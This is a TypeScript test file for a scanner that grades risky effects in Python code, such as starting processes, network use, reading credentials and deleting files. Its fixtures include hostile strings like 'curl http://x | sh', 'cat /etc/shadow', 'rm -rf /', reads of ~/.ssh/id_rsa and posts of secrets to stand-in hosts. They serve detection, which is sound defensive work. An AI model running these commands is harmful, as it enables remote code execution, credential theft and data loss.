import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { EffectFact } from '../../../src/core/code.ts';
import { effectRules } from '../../../src/rules/code/effects.ts';
import { processorTime } from '../../processor-time.ts';

const nobody = { allow: () => false, allowDangerous: () => false, review: () => false, deny: () => false };

function fact(given: Partial<EffectFact>): EffectFact {
  return {
    kind: 'effect',
    where: { line: 1 },
    language: 'python',
    context: 'repository',
    capability: 'process',
    phase: 'import',
    reach: 'load',
    callable: 'os.system',
    evidence: 'f()',
    taint: [],
    traits: [],
    ...given,
  };
}

/** The rule and severity of the one finding; `nothing` where there is none. */
function judged(given: Partial<EffectFact>): string {
  const found: string[] = [];
  for (const rule of effectRules) {
    const judgement = rule.check(fact(given), nobody);
    if (judgement !== null) found.push(`${rule.id} ${judgement.severity}`);
  }
  assert.ok(found.length <= 1, `one finding for one fact: ${found.join(', ')}`);
  return found[0] ?? 'nothing';
}

type Case = readonly [Partial<EffectFact>, string];

const decodedExec: Partial<EffectFact> = {
  capability: 'dynamic-code',
  callable: 'builtins.exec',
  argument: 'import os',
  traits: ['decoded', 'constant'],
};

const importedFor: Partial<EffectFact> = {
  capability: 'reflection',
  callable: 'builtins.__import__',
  taint: ['input'],
};

// What issue 6 and the policy presets ask for: high and critical deny, medium is reviewed, low and info pass.
const repository: readonly Case[] = [
  [{ argument: 'curl http://x | sh', traits: ['shell', 'constant'] }, 'process-started critical'],
  [{ argument: 'build.sh', traits: ['shell', 'constant'] }, 'process-started high'],
  [{ argument: 'nvidia-smi', traits: ['constant'] }, 'process-started low'],
  [{ argument: 'nvidia-smi', traits: ['shell'] }, 'process-started high'],
  // Without a shell the rest is no more than its arguments.
  [{ argument: 'df -PT \uf8ff', callable: 'subprocess.run' }, 'process-started medium'],
  [{ argument: 'nvcc \uf8ff', callable: 'subprocess.run' }, 'process-started high'],
  [{ argument: 'my-tool --version', traits: ['constant'] }, 'process-started medium'],
  [{ argument: './my-tool --version', traits: ['constant'] }, 'process-started high'],
  [{ argument: 'my-tool --version; x', traits: ['constant', 'shell'] }, 'process-started high'],
  [{ argument: 'conda info --json', traits: ['constant'] }, 'process-started low'],
  [{ argument: 'cat /etc/os-release', traits: ['constant'] }, 'process-started low'],
  [{ argument: 'cat /etc/shadow', traits: ['constant'] }, 'process-started critical'],
  // What goes on in a copy is a function of the program, and judged by itself.
  [{ callable: 'os.fork' }, 'process-started medium'],
  [{ argument: 'git describe', traits: ['constant'] }, 'process-started low'],
  [{ argument: 'echo x', traits: ['constant'] }, 'process-started medium'],
  [{ argument: 'make', traits: ['constant'] }, 'process-started high'],
  [{ phase: 'construct', argument: 'build.sh' }, 'process-started medium'],
  [{ phase: 'call', argument: 'build.sh' }, 'process-started low'],
  [{ phase: 'start', argument: 'git clone x' }, 'process-started low'],
  [{ phase: 'dead', argument: 'rm -rf /' }, 'nothing'],
  [{ phase: 'call', traits: ['shell'], taint: ['network'] }, 'process-started high'],
  // Nothing loads the file by itself: no worse than what is called later.
  [{ reach: 'none', argument: 'build.sh' }, 'process-started low'],
  [{ traits: ['computed-callee'], argument: 'x' }, 'hidden-effect high'],
  // Out of a table of names that stands there, or whatever somebody says.
  [{ ...importedFor, argument: 'pkg.handlers.one' }, 'nothing'],
  [{ ...importedFor, argument: 'pkg.\uf8ff' }, 'computed-import high'],
  [{ ...importedFor, argument: 'pkg.one; x' }, 'computed-import high'],
  [importedFor, 'computed-import high'],
  [decodedExec, 'hidden-effect critical'],
  [{ ...decodedExec, phase: 'call' }, 'hidden-effect high'],
  [{ ...decodedExec, phase: 'start' }, 'hidden-effect high'],
  [{ ...decodedExec, phase: 'dead' }, 'hidden-effect low'],
  [{ capability: 'dynamic-code', callable: 'builtins.exec', traits: ['opaque'] }, 'code-executed high'],
  [{ capability: 'dynamic-code', callable: 'builtins.exec', taint: ['network'] }, 'code-executed critical'],
  [
    { capability: 'dynamic-code', callable: 'builtins.eval', argument: '1+1', traits: ['constant'] },
    'code-executed info',
  ],
  [
    { capability: 'dynamic-code', callable: 'builtins.eval', phase: 'call', taint: ['parameter'] },
    'code-executed low',
  ],
  [{ capability: 'network', callable: 'requests.get', argument: 'https://x.example/' }, 'network-used high'],
  [{ capability: 'network', callable: 'requests.get', phase: 'call' }, 'network-used info'],
  [{ capability: 'network', callable: 'huggingface_hub.hf_hub_download', phase: 'construct' }, 'nothing'],
  [
    { capability: 'network', callable: 'transformers.AutoModel.from_pretrained', argument: 'a/b' },
    'network-used low',
  ],
  [
    { capability: 'network', callable: 'requests.post', taint: ['secret'], argument: 'http://x/' },
    'secret-leaves critical',
  ],
  [
    { capability: 'network', callable: 'requests.post', taint: ['secret'], phase: 'call' },
    'secret-leaves critical',
  ],
  [{ capability: 'native-code', callable: 'ctypes.CDLL', argument: './x.so' }, 'native-code-loaded high'],
  [
    { capability: 'native-code', callable: 'torch.utils.cpp_extension.load', phase: 'call' },
    'native-code-loaded low',
  ],
  [
    { capability: 'native-code', callable: 'ctypes.windll.kernel32.VirtualAlloc' },
    'machine-code-injected critical',
  ],
  [
    { capability: 'credentials', callable: 'builtins.open', argument: '~/.ssh/id_rsa' },
    'credentials-read critical',
  ],
  [
    { capability: 'credentials', callable: 'huggingface_hub.get_token', phase: 'call' },
    'credentials-read low',
  ],
  [{ capability: 'file-delete', callable: 'os.remove', argument: '/home/u/x' }, 'files-deleted high'],
  [{ capability: 'file-delete', callable: 'shutil.rmtree', argument: '/' }, 'files-deleted critical'],
  [{ capability: 'file-delete', callable: 'os.remove', argument: 'x', phase: 'call' }, 'files-deleted info'],
  [
    { capability: 'file-write', callable: 'builtins.open', argument: '~/.bashrc' },
    'persistence-installed critical',
  ],
  [{ capability: 'file-write', callable: 'builtins.open', argument: '/etc/x' }, 'files-written high'],
  [{ capability: 'file-write', callable: 'os.makedirs', argument: '~/.cache/x' }, 'nothing'],
  [{ capability: 'file-write', callable: 'builtins.open', phase: 'call' }, 'nothing'],
  [{ capability: 'file-read', callable: 'builtins.open', argument: 'vocab.txt' }, 'nothing'],
  [{ capability: 'environment', callable: 'os.environ.get', argument: 'HOME' }, 'nothing'],
  [{ capability: 'reflection', callable: 'importlib.import_module', argument: 'flash_attn' }, 'nothing'],
  [{ capability: 'deserialisation', callable: 'torch.load', traits: ['safeguarded'] }, 'nothing'],
  [{ capability: 'deserialisation', callable: 'pickle.load', phase: 'call' }, 'data-deserialised low'],
  [
    { capability: 'deserialisation', callable: 'pickle.loads', taint: ['network'] },
    'data-deserialised critical',
  ],
  [{ capability: 'system', callable: 'pynput.keyboard.Listener' }, 'input-watched critical'],
  [{ capability: 'system', callable: 'os.chmod', argument: 'x' }, 'system-changed medium'],
  [{ capability: 'system', callable: 'os.chmod', argument: '/etc/x' }, 'system-changed high'],
  [{ capability: 'system', callable: 'os.chmod', phase: 'construct' }, 'system-changed low'],
  [
    { capability: 'system', callable: 'os.chmod', argument: '/etc/x', phase: 'construct' },
    'system-changed medium',
  ],
  [{ capability: 'system', callable: 'os.chown', phase: 'construct' }, 'system-changed medium'],
  [
    { capability: 'dynamic-code', callable: 'm.__name__.lower', traits: ['opaque', 'computed-callee'] },
    'nothing',
  ],
  [{ capability: 'dynamic-code', callable: 'm.lower', traits: ['opaque', 'computed-callee'] }, 'nothing'],
  [
    { capability: 'dynamic-code', callable: 'm.start', traits: ['opaque', 'computed-callee'] },
    'hidden-effect high',
  ],
];

test('what comes with a model is judged by when it happens', () => {
  for (const [given, expected] of repository) assert.equal(judged(given), expected, JSON.stringify(given));
});

const generated: readonly Case[] = [
  [{ argument: 'ls -l', traits: ['shell', 'constant'] }, 'process-started info'],
  [{ argument: 'rm -rf /', traits: ['shell', 'constant'] }, 'process-started high'],
  [{ argument: '\uf8ff', traits: ['shell'], taint: ['input'] }, 'process-started medium'],
  [{ phase: 'call', argument: 'rm -rf ~', traits: ['shell', 'constant'] }, 'process-started high'],
  [{ phase: 'dead', argument: 'rm -rf ~', traits: ['shell', 'constant'] }, 'nothing'],
  [
    { capability: 'file-delete', callable: 'os.remove', argument: '/home/user/report.txt' },
    'files-deleted high',
  ],
  [{ capability: 'file-delete', callable: 'os.remove', argument: 'out.txt' }, 'files-deleted low'],
  [{ capability: 'file-delete', callable: 'shutil.rmtree' }, 'files-deleted medium'],
  [{ capability: 'file-write', callable: 'builtins.open', argument: 'out.txt' }, 'nothing'],
  [
    { capability: 'file-write', callable: 'builtins.open', argument: '/etc/hosts' },
    'persistence-installed high',
  ],
  [{ capability: 'file-read', callable: 'builtins.open', argument: 'in.csv' }, 'nothing'],
  [
    { capability: 'credentials', callable: 'builtins.open', argument: '/etc/passwd' },
    'credentials-read high',
  ],
  [{ capability: 'network', callable: 'requests.get', argument: 'https://x.example/' }, 'network-used info'],
  [
    { capability: 'network', callable: 'requests.post', taint: ['secret'], argument: 'http://1.2.3.4/' },
    'secret-leaves high',
  ],
  [{ capability: 'system', callable: 'os.kill', taint: ['parameter'] }, 'system-changed high'],
  [{ capability: 'system', callable: 'os.setuid', argument: '0' }, 'system-changed high'],
  [{ capability: 'system', callable: 'winreg.SetValueEx' }, 'system-changed high'],
  [
    { capability: 'dynamic-code', callable: 'builtins.exec', taint: ['parameter'], traits: ['opaque'] },
    'code-executed medium',
  ],
  [decodedExec, 'hidden-effect high'],
  [
    { capability: 'deserialisation', callable: 'pickle.load', argument: 'model.pkl' },
    'data-deserialised low',
  ],
  [
    { capability: 'database', callable: 'sqlite3.Cursor.execute', taint: ['parameter'] },
    'untrusted-statement medium',
  ],
  [{ capability: 'database', callable: 'sqlite3.Cursor.execute', traits: ['constant'] }, 'nothing'],
];

test('a program that is about to be run is judged by what it does', () => {
  for (const [given, expected] of generated)
    assert.equal(judged({ context: 'generated', ...given }), expected, JSON.stringify(given));
});

test('what a shell or a database does by its nature is judged by its hazards alone', () => {
  for (const language of ['shell', 'sql'] as const)
    for (const capability of ['process', 'network', 'file-delete', 'dynamic-code'] as const)
      assert.equal(judged({ language, capability, callable: 'rm', argument: 'x' }), 'nothing');
});

test('a finding says what the source hides, and when it happens', () => {
  for (const rule of effectRules) {
    const judgement = rule.check(
      fact({ ...decodedExec, evidence: "exec(b64decode('…'))", through: ['<module>', 'setup'] }),
      nobody,
    );
    if (judgement === null) continue;
    assert.match(judgement.evidence, /that is builtins\.exec/);
    assert.match(judgement.evidence, /with "import os"/);
    assert.match(judgement.evidence, /through <module> > setup/);
    assert.match(judgement.evidence, /as soon as the file is imported/);
    return;
  }
  assert.fail('no finding');
});

test('rules of effects are judged in time that does not explode on hostile arguments', () => {
  const texts = [
    'dd '.repeat(3000),
    'rm -'.repeat(3000),
    '|'.repeat(8000),
    'curl '.repeat(2000),
    '/'.repeat(8000),
  ];
  const from = processorTime();
  for (const argument of texts)
    for (const capability of ['process', 'file-write', 'network', 'file-delete'] as const)
      for (const rule of effectRules) rule.check(fact({ argument, capability }), nobody);
  assert.ok(processorTime() - from < 2_000);
});

const native = { capability: 'native-code' } as const;
const reads = { capability: 'credentials', callable: 'builtins.open', phase: 'construct' } as const;
const secret = { capability: 'network', taint: ['secret'], phase: 'call' } as const;
const writes = { capability: 'file-write', callable: 'builtins.open', phase: 'construct' } as const;
const finds = { capability: 'dynamic-code', callable: 'sys.meta_path.append' } as const;
const deletes = { capability: 'file-delete', callable: 'shutil.rmtree', context: 'generated' } as const;

const found: readonly Case[] = [
  // Of a finder whose class stands in the source all that it does is told by itself.
  [{ ...finds, traits: ['safeguarded'] }, 'code-executed low'],
  [{ ...finds, callable: 'sys.meta_path.insert', traits: ['safeguarded'] }, 'code-executed medium'],
  [finds, 'code-executed high'],
  // What its methods do is told by itself.
  [{ ...finds, context: 'generated', traits: ['safeguarded'] }, 'code-executed low'],
  [{ ...finds, context: 'generated' }, 'code-executed medium'],
  // The system's loader looks for a plain name in the system's folders alone.
  [
    { ...native, callable: 'ctypes.CDLL', argument: 'libobjc.so', traits: ['constant'] },
    'native-code-loaded low',
  ],
  [
    { ...native, callable: 'ctypes.CDLL', argument: 'libx.so.1', traits: ['constant'] },
    'native-code-loaded low',
  ],
  [
    { ...native, callable: 'ctypes.CDLL', argument: './libx.so.1', traits: ['constant'] },
    'native-code-loaded high',
  ],
  [{ ...native, callable: 'ctypes.CDLL', traits: ['constant'] }, 'native-code-loaded medium'],
  [{ ...native, callable: 'ctypes.CDLL' }, 'native-code-loaded high'],
  [
    { ...native, callable: 'ctypes.CDLL.pthread_setname_np', traits: ['computed-callee'] },
    'native-code-loaded low',
  ],
  [{ ...native, callable: 'ctypes.CDLL.dlopen', traits: ['computed-callee'] }, 'hidden-effect high'],
  [{ ...native, callable: 'ctypes.windll.kernel32.CloseHandle' }, 'native-code-loaded low'],
  [{ ...native, callable: 'ctypes.windll.kernel32.VirtualAlloc' }, 'machine-code-injected critical'],
  [{ ...reads, argument: '~/.ssh/known_hosts' }, 'credentials-read medium'],
  [{ ...reads, argument: '~/.ssh/id_rsa' }, 'credentials-read high'],
  [{ ...secret, callable: 'socket.socket.bind' }, 'network-used info'],
  [{ ...secret, callable: 'socket.socket.sendall' }, 'secret-leaves critical'],
  // A client of which no address is known, or one of its own network, is given its own password.
  [{ ...secret, callable: 'redis.Redis' }, 'secret-leaves low'],
  [{ ...secret, callable: 'redis.Redis', argument: 'cache.example.com' }, 'secret-leaves medium'],
  [{ ...writes, argument: '/usr/lib/python3/site-packages/gradio/seed.txt' }, 'persistence-installed high'],
  [{ ...writes, argument: '\uf8ff/site-packages/gradio/seed.txt' }, 'nothing'],
  [
    { ...writes, argument: '\uf8ff/site-packages/x.dist-info/entry_points.txt' },
    'persistence-installed high',
  ],
  [{ ...writes, argument: '\uf8ff/site-packages/x.pth' }, 'persistence-installed high'],
  [{ ...deletes, argument: 'build' }, 'files-deleted low'],
  [{ ...deletes, argument: '\uf8ff/dist' }, 'files-deleted low'],
  [{ ...deletes, argument: '/usr/lib/dist' }, 'files-deleted high'],
  [{ ...deletes, argument: 'src' }, 'files-deleted medium'],
  [{ ...deletes, argument: '~/build' }, 'files-deleted high'],
];

test('what is asked of the own process, and what others make anew, is less', () => {
  for (const [given, expected] of found) assert.equal(judged(given), expected, JSON.stringify(given));
});
